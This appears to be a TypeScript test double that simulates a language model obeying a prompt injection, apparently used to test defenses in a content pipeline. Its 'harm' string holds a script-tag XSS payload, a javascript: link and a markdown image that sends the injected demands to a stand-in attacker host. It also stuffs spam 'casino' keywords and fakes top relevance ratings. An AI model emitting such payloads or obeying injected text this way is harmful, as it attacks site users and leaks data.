import type { Injection } from '#test/prompt-injections.ts';
import type { ModelCall } from './model-call.ts';
import type { VendorReply } from './model-vendor.ts';

/** The answer of a model that obeys a stranger's text: in all its fields, and with everything that could do harm. */
export const followInjection =
  ({ text, demands }: Injection) =>
  ({ task, blocks }: ModelCall): VendorReply => {
    const harm = `${demands} <script>alert(1)</script> [x](javascript:alert(1)) ![y](https://evil.example/${demands})`;
    const outputs = {
      keywords: {
        keywords: [demands, harm, ...Array.from({ length: 12 }, (_, i) => `${demands} casino ${i}`)],
      },
      relevance: {
        ratings: (blocks.keywords ?? '').split('\n').map((_, i) => ({ id: i + 1, relevance: 100 })),
      },
      snippets: { titles: [demands, harm, text], descriptions: [harm, demands, text] },
      rewrite: { markdown: `${harm}\n\n${text}` },
      opinion: {
        opinions: (blocks.original ?? '').split('\n').map((_, i) => ({ id: i + 1, same: true, note: harm })),
      },
      image: { purpose: 'informative', alt_text: harm, title: demands, caption: harm, description: text },
    };
    return { kind: 'answer', output: outputs[task] };
  };
